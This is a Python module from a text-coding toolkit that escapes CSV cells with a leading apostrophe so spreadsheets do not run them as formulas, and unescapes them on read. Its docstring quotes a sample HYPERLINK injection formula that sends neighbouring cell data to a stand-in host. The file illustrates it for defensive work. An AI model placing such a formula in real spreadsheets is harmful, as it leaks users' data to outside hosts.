"""Tables people open: one CSV writer and reader that keep spreadsheet formulas dead.

A coding sheet, review queue or error sheet is opened in a spreadsheet program by a research
assistant; a corpus text, id, stratum or coder name that begins with ``=``, ``+``, ``-``,
``@``, a tab or a carriage return would be read there as a formula
(``=HYPERLINK("http://x/?q="&A1, "click")`` sends the cell's neighbours elsewhere). Every
string cell that could start a formula is written with a leading apostrophe, which a
spreadsheet shows as text; :func:`read_csv` removes exactly that apostrophe again, so a text
survives the round trip byte for byte. A text that itself begins with an apostrophe gets a
second one, so the rule stays reversible.

Outputs that only programs read (parquet, JSON, JSONL) keep their plain form. Input data the
user brings (a corpus CSV) is read as it is: only files this module wrote are unescaped.
:func:`read_sheet` reads a sheet a person returned (any format the workflow accepts);
:func:`write_input_csv` writes input data plainly (the synthetic example's corpus).
"""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path
from typing import Any

import pandas as pd

__all__ = ["FORMULA_STARTS", "escape_cell", "unescape_cell", "write_csv", "read_csv",
           "to_csv_text", "unescape_frame", "read_sheet", "write_input_csv"]

#: First characters a spreadsheet program reads as the start of a formula (OWASP list).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")
_QUOTE = "'"


def escape_cell(value: Any) -> Any:
    """``value`` made safe to open: strings that could start a formula (or that already begin
    with an apostrophe) get a leading apostrophe; everything else is returned unchanged."""
    if isinstance(value, str) and value and (value[0] in FORMULA_STARTS or value[0] == _QUOTE):
        return _QUOTE + value
    return value


def unescape_cell(value: Any) -> Any:
    """The inverse of :func:`escape_cell`: one leading apostrophe removed."""
    if isinstance(value, str) and value.startswith(_QUOTE):
        return value[1:]
    return value


def _escaped(df: pd.DataFrame, index: bool) -> pd.DataFrame:
    out = df.copy()
    for col in out.columns:
        if not pd.api.types.is_numeric_dtype(out[col]) or pd.api.types.is_bool_dtype(out[col]):
            out[col] = out[col].map(escape_cell)
    out.columns = [escape_cell(str(c)) if isinstance(c, str) else c for c in out.columns]
    if index:
        out.index = out.index.map(escape_cell)
        if out.index.name is not None:
            out.index.name = escape_cell(str(out.index.name))
    return out


def to_csv_text(df: pd.DataFrame, *, index: bool = False) -> str:
    """The CSV text :func:`write_csv` would write (for atomic writers that take a string)."""
    return _plain_csv_text(_escaped(df, index), index)


def _plain_csv_text(df: pd.DataFrame, index: bool) -> str:
    """``df`` as CSV text that reads back cell for cell.

    Python's csv writer quotes a field holding a line break only when that character is part
    of the line terminator, so with ``\n`` lines a lone carriage return inside a text would be
    written bare and read back as the end of a row. A table with such a cell is written with
    ``\r\n`` lines (RFC 4180), which quotes it; every other table keeps ``\n`` lines.
    """
    cells = [df.columns, df.index] if index else [df.columns]
    cells += [df[c] for c in df.columns
              if not pd.api.types.is_numeric_dtype(df[c]) or pd.api.types.is_bool_dtype(df[c])]
    has_cr = any(isinstance(v, str) and "\r" in v for col in cells for v in col)
    if index and isinstance(df.index.name, str) and "\r" in df.index.name:
        has_cr = True
    return df.to_csv(index=index, lineterminator="\r\n" if has_cr else "\n")


def write_csv(df: pd.DataFrame, path: str | Path, *, index: bool = False) -> Path:
    """Write ``df`` as UTF-8 CSV with every formula start neutralised, atomically (a reader
    never sees half a sheet)."""
    from textgauge.io import write_text_atomic

    p = Path(path)
    write_text_atomic(to_csv_text(df, index=index), p)
    return p


def read_csv(path: str | Path, **kwargs: Any) -> pd.DataFrame:
    """Read a CSV this module wrote (a sheet as a coder returned it, too), restoring every
    escaped cell and header. ``kwargs`` go to :func:`pandas.read_csv`; strings stay strings
    unless a ``dtype`` says otherwise."""
    return unescape_frame(pd.read_csv(path, **kwargs))


def unescape_frame(df: pd.DataFrame) -> pd.DataFrame:
    """Undo :func:`write_csv`'s escaping on a table already read (headers, string cells and a
    string index); ``df`` is changed in place and returned."""
    df.columns = [unescape_cell(c) for c in df.columns]
    fix: Callable[[Any], Any] = unescape_cell
    for col in df.columns:
        if df[col].dtype == object or pd.api.types.is_string_dtype(df[col]):
            df[col] = df[col].map(fix)
    if df.index.dtype == object or pd.api.types.is_string_dtype(df.index):
        df.index = df.index.map(fix)
        if isinstance(df.index.name, str):
            df.index.name = unescape_cell(df.index.name)
    return df


#: extensions whose files may have been written by :func:`write_csv` (and so are unescaped)
_ESCAPED_SUFFIXES = (".csv", ".tsv", ".txt")


def read_sheet(path: str | Path, what: str = "sheet") -> pd.DataFrame:
    """A sheet a person returned (coding sheet, adjudication sheet, review queue), read like
    :func:`textgauge.data.corpus.read_table` (every column as text, the same messages for a
    missing or unparseable file) with the escaping of :func:`write_csv` undone.

    Only CSV/TSV files are unescaped: parquet and JSONL never carry the apostrophe, so a text
    there that begins with one keeps it.
    """
    from textgauge.data.corpus import read_table

    if Path(path).suffix.lower() == ".xlsx":  # an XLSX sheet stores text as text: no escaping
        from textgauge.data.xlsx import read_xlsx_table

        return read_xlsx_table(path, what)
    df = read_table(path, what)
    if Path(path).suffix.lower() in _ESCAPED_SUFFIXES:
        df = unescape_frame(df)
    return df


def write_input_csv(df: pd.DataFrame, path: str | Path) -> Path:
    """For INPUT data only: write ``df`` as a plain CSV, cells exactly as given, atomically.

    The bundled synthetic example writes its corpus, labelled pool and truth with this: they
    play the part of the files a user brings, which ingest reads as they are (never
    unescaped), so they must not carry the apostrophe either. Anything the workflow writes
    for a person to open goes through :func:`write_csv`.
    """
    from textgauge.io import write_text_atomic

    p = Path(path)
    write_text_atomic(_plain_csv_text(df, False), p)
    return p
